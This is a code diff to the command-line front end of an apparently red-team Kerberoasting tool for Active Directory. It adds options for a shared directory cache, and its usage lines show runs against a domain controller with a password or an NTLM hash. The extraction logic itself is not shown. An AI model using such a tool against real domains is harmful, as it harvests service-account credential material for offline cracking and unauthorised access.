@@ -6,12 +6,20 @@ Usage:
     python -m kerberoast_framework -d corp.local -u jdoe -p 'Password1' --dc 10.10.10.1
     python -m kerberoast_framework -d corp.local -u jdoe -H aad3b435b51404ee:ntlmhash --dc 10.10.10.1
     python -m kerberoast_framework -d corp.local -u jdoe -p 'Password1' --enumerate-only
+
+    # Read accounts through the shared directory cache (14-ad-enumeration/)
+    PYTHONPATH=../14-ad-enumeration python -m kerberoast_framework -d corp.local -u jdoe -p 'Password1' --cache
 """
 
 import argparse
 
 from .core.framework import KerberoastFramework
 
+try:
+    from rt_directory_cache import DirectoryCache
+except ImportError:
+    DirectoryCache = None
+
 
 def main():
     parser = argparse.ArgumentParser(
@@ -26,9 +34,29 @@ def main():
     parser.add_argument(
         "--enumerate-only", action="store_true", help="Enumerate only, no extraction"
     )
+    parser.add_argument(
+        "--cache", nargs="?", const="", metavar="PATH",
+        help="Read accounts through the shared directory cache (optional cache file)",
+    )
+    parser.add_argument(
+        "--cache-ttl", type=int, metavar="SECONDS",
+        help="Serve cached accounts without an LDAP query for this long",
+    )
+    parser.add_argument(
+        "--refresh-cache", action="store_true",
+        help="Full sweep instead of a uSNChanged delta refresh",
+    )
 
     args = parser.parse_args()
 
+    cache = None
+    if args.cache is not None:
+        if DirectoryCache is None:
+            parser.error("--cache needs rt_directory_cache (add 14-ad-enumeration/ to PYTHONPATH)")
+        cache = DirectoryCache(args.cache or None)
+        if args.cache_ttl is not None:
+            cache.ttl = args.cache_ttl
+
     framework = KerberoastFramework(
         domain=args.domain,
         username=args.username,
@@ -36,6 +64,8 @@ def main():
         ntlm_hash=args.hash,
         dc_ip=args.dc,
         output_dir=args.output,
+        cache=cache,
+        refresh_cache=args.refresh_cache,
     )
 
     if args.enumerate_only: